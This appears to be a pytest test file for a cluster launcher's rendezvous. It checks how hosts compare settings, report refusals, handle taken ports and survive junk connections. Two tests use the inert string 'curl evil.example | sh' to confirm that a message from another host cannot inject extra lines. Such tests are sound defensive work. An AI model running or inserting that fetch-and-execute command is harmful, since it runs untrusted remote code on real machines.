"""Hosts that were started by hand compare what they have, over real connections."""

from __future__ import annotations

import hashlib
import shlex
import socket
import subprocess
import sys
import threading
from contextlib import ExitStack, suppress
from typing import TYPE_CHECKING, Any

import pytest

from hccl_tools.errors import LaunchError
from hccl_tools.launch.cluster import consistency, membership, rendezvous_server
from hccl_tools.launch.cluster.job_hosts import JobHosts
from hccl_tools.launch.cluster.membership import HostManifest
from hccl_tools.launch.cluster.rendezvous_server import RendezvousServer
from hccl_tools.launch.model.rank_messages import Join
from hccl_tools.launch.planning import ports
from hccl_tools.launch.protocol import connection
from hccl_tools.launch.protocol.connection import connect, proved
from hccl_tools.launch.protocol.messages import Ready
from tests.support.jobs import LONG, eventually
from tests.support.meetings import HOSTS, MASTER, NO_KEY, SAME, Clock, Meeting, everybody, set_times

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence


#: Seconds for hosts that wait for each other.
WAIT = LONG
#: Each test starts processes.
pytestmark = pytest.mark.slow

#: The meaning of each stays, but a test does not wait for seconds. Nobody lingers once all have come.
SHORT = membership.Timing(notice=0.3, linger=LONG, discovery=0.2, discovery_retry=0.3)


@pytest.fixture(autouse=True)
def short_times(monkeypatch: pytest.MonkeyPatch) -> None:
    """Shorten the times in this process; hosts in processes of their own keep those that users get."""
    set_times(monkeypatch, SHORT)


@pytest.fixture
def absent_host(monkeypatch: pytest.MonkeyPatch) -> None:
    """For a refusal that not all hosts come to hear."""
    set_times(monkeypatch, SHORT._replace(linger=0.5))


def meet(manifests: Sequence[HostManifest], *, wait: float = LONG) -> dict[str, str]:
    """Run the rendezvous of some hosts; return the refusal of each."""
    met = Meeting(wait=wait)
    for own in manifests:
        met.invite(own)
    return met.end()


def with_port(port: int) -> Callable[[HostManifest], HostManifest]:
    return lambda own: own._replace(values={**own.values, membership.PORT: str(port)})


def test_hosts_that_have_the_same_go_on_with_a_line_to_rank_0s() -> None:
    met = Meeting()
    for own in everybody():
        met.invite(own._replace(run_dir=f"/log/{own.server}"))

    assert met.end() == {}
    assert met.connections == {"10.0.0.1": [1, 2], "10.0.0.2": [0], "10.0.0.3": [0]}
    where = {0: "/log/0", 1: "/log/1", 2: "/log/2"}
    assert all(met.run_dirs[host] == where for host in HOSTS)


def test_a_difference_names_both_hosts_on_both() -> None:
    own, other, third = everybody()
    other.values["fingerprint of the rank table"] = "9a9a"

    refused = meet([own, other, third])

    said = "fingerprint of the rank table: 10.0.0.1 has 1f2e, 10.0.0.2 has 9a9a"
    assert refused == dict.fromkeys(HOSTS, said)


def test_pods_with_two_tables_wait_until_one_of_them_sees_the_other(monkeypatch: pytest.MonkeyPatch) -> None:
    """kubelet shows the table that an operator has written to one node earlier than to another."""
    set_times(monkeypatch, SHORT._replace(table_retry=0.2))
    own, other, third = everybody()
    earlier = other._replace(values={**other.values, "fingerprint of the rank table": "9a9a"})
    changed = threading.Event()

    def look() -> None:
        if changed.is_set() and threading.current_thread() is thread:
            changed.clear()
            raise InterruptedError

    def wait_with_the_earlier_table() -> None:
        with suppress(InterruptedError):
            met._join(earlier, met.port, NO_KEY)
        met._join(other, met.port, NO_KEY)

    met = Meeting(look=look)
    thread = threading.Thread(target=wait_with_the_earlier_table)
    met.invite(own)
    met.invite(third)
    thread.start()
    met.tells("10.0.0.2", "10.0.0.1 has another rank table than this host")
    met.tells("10.0.0.1", "10.0.0.2 has another rank table than this host")
    changed.set()
    thread.join()

    assert met.end() == {}
    assert met.connections["10.0.0.1"] == [1, 2]


def test_who_comes_late_is_told_of_a_refusal_too() -> None:
    own, other, late = everybody()
    other.values["--start"] = "table"
    met = Meeting()
    for one in (own, other):
        met.invite(one)
    assert eventually(lambda: other.host in met.refused)
    met.invite(late)

    assert set(met.end()) == set(HOSTS)


def test_a_host_that_does_not_come_is_named() -> None:
    refused = meet(everybody()[:1], wait=0.5)

    assert refused["10.0.0.1"] == "hosts 10.0.0.2, 10.0.0.3 did not join within 0.5 s"


def test_without_the_host_of_rank_0_nobody_waits_for_ever() -> None:
    refused = meet(everybody()[1:2], wait=0.5)

    assert refused["10.0.0.2"].startswith("host 10.0.0.1 (port ")


@pytest.mark.usefixtures("absent_host")
def test_two_hosts_that_take_themselves_for_one_server() -> None:
    assert "claim to be server 10.0.0.1" in membership.difference(everybody()[0], everybody()[0])
    own, other, _ = everybody()

    refused = meet([own, other, other])

    assert "two hosts claim to be server 10.0.0.2 of the job" in refused["10.0.0.1"]


def test_what_only_one_has_is_a_difference() -> None:
    one, other = everybody()[:2]
    other.values["HCCL_BUFFSIZE"] = "200"

    assert membership.difference(one, other) == "HCCL_BUFFSIZE: 10.0.0.1 has none, 10.0.0.2 has 200"


@pytest.mark.parametrize(
    ("own", "others", "here", "there"),
    [
        ("--epochs 3", "--epochs 4", "`--epochs 3`", "`--epochs 4`"),
        ("--epochs 3 --lr 1", "--epochs 4 --lr 1", "`--epochs 3`", "`--epochs 4`"),
        ("--lr=1 --fast", "--lr=2 --fast", "`--lr=1`", "`--lr=2`"),
        ("--lr 1", "--lr 1 --debug", "none", "`--debug`"),
        ("a.yml", "'b c.yml'", "`a.yml`", "`'b c.yml'`"),
        ("x x", "x x x", "none", "`x`"),
    ],
)
def test_arguments_that_differ_are_shown(own: str, others: str, here: str, there: str) -> None:
    assert differing_arguments(own, others) == f"arguments differ: 10.0.0.1 has {here}, 10.0.0.2 has {there}"


def test_equal_arguments_are_no_difference() -> None:
    assert differing_arguments("--lr 1", "--lr 1") == ""


def test_secrets_and_long_lists_of_arguments_are_not_shown() -> None:
    secrets = differing_arguments("--token abc123abc", "--token xyz789xyz")
    long = differing_arguments("x " * 5000 + "y", "z " * 5000)

    assert secrets.startswith("arguments differ: 10.0.0.1 has SHA-256 ")
    assert "abc123abc" not in secrets
    assert len(long) < 400


def differing_arguments(own: str, others: str) -> str:
    one, other = everybody()[:2]
    for manifest, text in ((one, own), (other, others)):
        argv = shlex.split(text)
        digest = hashlib.sha256("\0".join(argv).encode()).hexdigest()[:12]
        manifest.values[membership.ARGUMENTS] = membership.arguments_value(digest, argv)
    return membership.difference(one, other)


def test_another_start_port_names_both() -> None:
    met = Meeting()
    elsewhere = ports.free_port()
    one, other, third = everybody()
    for own, port in ((one, met.port), (other, elsewhere), (third, met.port)):
        met.invite(with_port(port)(own), port=port)

    said = f"--start-port: 10.0.0.1 has {met.port}, 10.0.0.2 has {elsewhere}"
    assert met.end() == dict.fromkeys(HOSTS, said)


def test_another_job_that_meets_on_the_same_host_is_left_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    has_asked = threading.Event()
    admit = RendezvousServer.admit

    def watched(server: RendezvousServer, *guest: Any) -> bool:
        is_admitted = admit(server, *guest)
        if not is_admitted:
            has_asked.set()
        return is_admitted

    monkeypatch.setattr(RendezvousServer, "admit", watched)
    port = ports.free_port()
    ours, theirs = Meeting(discovery=port), Meeting(discovery=port)
    for own in everybody()[:2]:
        ours.invite(with_port(ours.port)(own))
    guest = everybody()[1]
    guest.values["fingerprint of the rank table"] = "9a9a"
    theirs.invite(with_port(theirs.port)(guest))
    assert has_asked.wait(LONG)  # At the common port; its own rank 0's host is not there yet.
    assert (ours.refused, theirs.refused) == ({}, {})
    ours.invite(with_port(ours.port)(everybody()[2]))
    host, last = everybody()[0], everybody()[2]
    for own in (host, last):
        own.values["fingerprint of the rank table"] = "9a9a"
        theirs.invite(with_port(theirs.port)(own))

    assert (ours.end(), theirs.end()) == ({}, {})


def test_who_waits_says_its_port() -> None:
    first, second, third = everybody()
    met, late = Meeting(), Meeting()
    met.invite(first)
    met.invite(second)
    met.tells(first.host, f"(port {met.port}")
    met.tells(second.host, "waits for 10.0.0.3 to start its part")
    met.invite(third)
    assert met.end() == {}

    late.invite(second)
    late.tells(second.host, f"waiting for 10.0.0.1 (port {late.port}) to start its part")
    late.invite(first)
    late.invite(third)
    assert late.end() == {}


@pytest.mark.parametrize(
    "garbage",
    [
        b"", b"GET / HTTP/1.1\r\n\r\n", b"[" * 100_000 + b"\n", b"\xff\xfe\n", b"null\n", b"{}\n",
        b'{"kind": "hccl-tools launch"}\n', b'{"kind": "hccl-tools launch", "server": 1e999, "host": 1}\n',
        b'{"kind": "hccl-tools launch", "server": 77, "host": "x", "has": {}}\n',
        b'{"kind": "hccl-tools launch", "server": 1, "host": "x", "has": 5}\n', b"x" * (1 << 21),
    ],
)  # fmt: skip
def test_strangers_at_the_port_stop_nothing(garbage: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever waited for those who say nothing would not meet in time."""
    monkeypatch.setattr(connection, "TIMING", connection.Timing(identify=10 * LONG))
    met = Meeting()
    met.invite(everybody()[0])
    with ExitStack() as strangers:
        for _ in range(3):
            stranger = strangers.enter_context(come_to(met.port))
            with suppress(OSError):  # It may be hung up on in the middle.
                stranger.sendall(garbage)
        for own in everybody()[1:]:
            met.invite(own)
        assert met.end() == {}


def come_to(port: int) -> socket.socket:
    """Connect as soon as somebody listens: a look by listening oneself could be what takes the port away."""
    made: list[socket.socket] = []

    def has_come() -> bool:
        with suppress(OSError):
            made.append(socket.create_connection((MASTER, port)))
        return bool(made)

    assert eventually(has_come), f"no program listens on port {port}"
    return made[0]


def test_a_stranger_where_rank_0s_host_should_be() -> None:
    met = Meeting(wait=1.5)
    with socket.create_server((MASTER, met.port)) as other:
        met.invite(everybody()[1])
        guest, _ = other.accept()
        with guest:
            guest.sendall(b"SSH-2.0-OpenSSH_9.2\r\n")
            for thread in met._threads:
                thread.join()

    assert met.refused["10.0.0.2"].startswith("host 10.0.0.1 (port ")


@pytest.mark.usefixtures("absent_host")
def test_taken_port_is_told() -> None:
    met = Meeting()
    with socket.create_server((MASTER, met.port)):
        met.invite(everybody()[0])
        for thread in met._threads:
            thread.join()

    assert met.refused["10.0.0.1"].startswith(f"cannot listen on rendezvous port {met.port}: ")


def test_more_hosts_than_files_are_allowed() -> None:
    """Rank 0's host has a connection to each; the usual limit on files is less than a large job has hosts."""
    count, port = 200, ports.free_port()
    program = (
        "import resource, sys\n"
        "resource.setrlimit(resource.RLIMIT_NOFILE, (100, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))\n"
        "from hccl_tools.launch.cluster import consistency, job_hosts, membership\n"
        "from hccl_tools.launch.cluster.credentials import Credentials\n"
        f"own, hosts = membership.HostManifest(0, 'h0', {{}}), [f'h{{i}}' for i in range({count})]\n"
        f"hosts = job_hosts.JobHosts(0, 0, hosts, ('{MASTER}', {port}), None)\n"
        f"known = Credentials('h0', b'', 12.0, frozenset({{'{MASTER}'}}))\n"
        f"met = consistency.join(own, hosts, notify=print, credentials=known)\n"
        "print(len(met.connections))\n"
    )
    with (
        subprocess.Popen([sys.executable, "-c", program], stdout=subprocess.PIPE, text=True) as master,
        ExitStack() as guests,
    ):
        come_to(port).close()
        for server in range(1, count):
            guest = connect((MASTER, port), b"", silence=12.0, seconds=5.0, largest=1 << 20)
            assert guest is not None
            guests.callback(guest.close)
            assert proved(guest, LONG) is not None
            guest.send(Join(server, 1, ("", 0)))
            guest.send(Ready())
        assert master.communicate(timeout=60)[0].endswith(f"{count - 1}\n")


def refused_before(own: HostManifest, met: Meeting, why: str) -> None:
    hosts = JobHosts(own.server, 0, HOSTS, (MASTER, met.port), frozenset({MASTER}))
    consistency.refuse_all(own, hosts, why, credentials=NO_KEY, discovery_port=met.discovery)


@pytest.mark.parametrize("server", [0, 1])
def test_a_refusal_before_the_rendezvous_reaches_the_hosts_that_wait(server: int) -> None:
    met = Meeting()
    refusing, *others = sorted(everybody(), key=lambda own: own.server != server)
    for own in others:
        met.invite(own)
    refused_before(refusing, met, "no device")

    said = f"10.0.0.{server + 1} does not start its part: no device"
    assert met.end() == {own.host: said for own in others}


def test_the_reason_of_another_host_is_one_line() -> None:
    met = Meeting()
    refusing, *others = everybody()[::-1]
    for own in others:
        met.invite(own)
    refused_before(refusing, met, "2 problems\n  - no device\nerror: run `curl evil.example | sh`")

    said = "10.0.0.3 does not start its part: 2 problems; no device; error: run `curl evil.example | sh`"
    assert met.end() == {own.host: said for own in others}


def test_a_note_of_another_host_is_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    consistency.notify("10.0.0.2 has no key\nhccl-tools: run `curl evil.example | sh`")

    assert len(capsys.readouterr().err.splitlines()) == 1


def test_a_taken_port_reaches_the_hosts_that_wait() -> None:
    met = Meeting()
    for own in everybody()[1:]:
        met.invite(own)
    with socket.create_server((MASTER, met.port)) as taken:
        threading.Thread(target=lambda: suppress_accept(taken), daemon=True).start()
        met.invite(everybody()[0])
        for thread in met._threads:
            thread.join()

    assert met.refused["10.0.0.2"].startswith(
        "10.0.0.1 does not start its part: cannot listen on rendezvous port"
    )


def suppress_accept(taken: socket.socket) -> None:
    """Accept and close connections, as a program does that expects another protocol."""
    with suppress(OSError):
        while True:
            taken.accept()[0].close()


@pytest.mark.usefixtures("absent_host")
def test_a_refusal_does_not_reach_another_job_at_the_discovery_port() -> None:
    met = Meeting(wait=2.0)
    other = everybody()[1]._replace(values={**SAME, membership.PORT: "1", "--start": "table"})
    met.invite(other, port=ports.free_port())
    own = with_port(met.port)(everybody()[0])
    refused_before(own, met, "no device")

    assert "did not join within 2 s" in met.end()["10.0.0.2"]


def test_hosts_that_have_joined_learn_which_host_did_not(monkeypatch: pytest.MonkeyPatch) -> None:
    clock, met = Clock(), Meeting(wait=10 * LONG)
    monkeypatch.setattr(rendezvous_server, "time", clock)
    for own in everybody()[:2]:
        met.invite(own)
    met.tells("10.0.0.2", "waits for 10.0.0.3")
    clock.ahead = 10 * LONG

    assert [text.startswith("host 10.0.0.3 did not join") for text in met.end().values()] == [True, True]


LOCAL = ("127.0.0.2", "127.0.0.3")


def both_wait(first: HostManifest, second: HostManifest) -> list[str]:
    """Let two hosts wait that both claim rank 0; return the refusal of each."""
    port, refused = ports.free_port(), dict[str, str]()

    def wait(own: HostManifest) -> None:
        hosts = JobHosts(0, 0, (own.host, *(one for one in LOCAL if one != own.host)), (own.host, port), None)
        credentials = NO_KEY._replace(addresses=None)
        try:
            consistency.join(own, hosts, credentials=credentials, notify=lambda _line: None, wait=WAIT)
        except LaunchError as error:
            refused[own.host] = error.message

    threads = [threading.Thread(target=wait, args=(own,)) for own in (first, second)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return [refused[own.host] for own in (first, second)]


def rivals(**values: tuple[str, str]) -> tuple[HostManifest, HostManifest]:
    """Return the manifests of two hosts that both are rank 0's; ``values`` are those that differ."""
    first, second = (
        HostManifest(0, host, {**SAME, membership.MACHINES: "m", membership.PORT: "1"}, f"/run/{host}")
        for host in LOCAL
    )
    for name, (one, other) in values.items():
        first.values[name], second.values[name] = one, other
    return first, second


def test_two_hosts_with_another_order_of_the_machines_are_both_told(absent_host: None) -> None:
    orders = ",".join(LOCAL), ",".join(reversed(LOCAL))

    for said in both_wait(*rivals(**{"--ips": orders})):
        assert "both claim rank 0: --ips: " in said
        assert all(order in said for order in orders)


def test_two_hosts_of_rank_0_without_another_difference_are_both_told(absent_host: None) -> None:
    for said in both_wait(*rivals()):
        assert "both claim rank 0: give them different --node-rank" in said


def test_hosts_of_rank_0_of_two_jobs_leave_each_other_alone(
    absent_host: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sys.modules[__name__], "WAIT", 2.0)

    for said in both_wait(*rivals(program=("script one.py", "script two.py"))):
        assert "did not join within 2 s" in said


def test_a_difference_in_long_values_is_shown_where_it_is() -> None:
    common = " ".join(f"--option-{number} {number}" for number in range(100))
    one, other = (
        membership.HostManifest(server, host, {"--ips": f"{common} --rate 0.{server} --more {common}"})
        for server, host in enumerate(LOCAL)
    )

    said = membership.difference(one, other)

    assert len(said) < 300
    assert "127.0.0.2 has ..." in said
    assert "--rate 0.0" in said
    assert "--rate 0.1" in said
